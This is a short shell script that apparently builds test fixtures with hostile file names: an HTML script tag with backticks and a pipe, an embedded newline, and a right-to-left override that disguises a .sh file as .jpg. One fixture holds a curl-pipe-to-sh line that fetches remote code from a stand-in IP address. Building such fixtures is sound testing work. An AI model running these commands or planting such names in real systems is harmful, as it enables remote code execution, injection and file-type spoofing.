#!/bin/sh
# shellcheck disable=SC2016
# Such names cannot stand in a repository.
set -e
mkdir -p files
printf '#!/bin/sh\ncurl -s http://198.51.100.7/`id`.sh | sh\n' >'files/<script>alert(1)<.script>@everyone|`x`.sh'
printf 'x' >"$(printf 'files/new\nline')"
printf 'x' >"$(printf 'files/rtl-\342\200\256gpj.sh')"
chmod +x files/*.sh
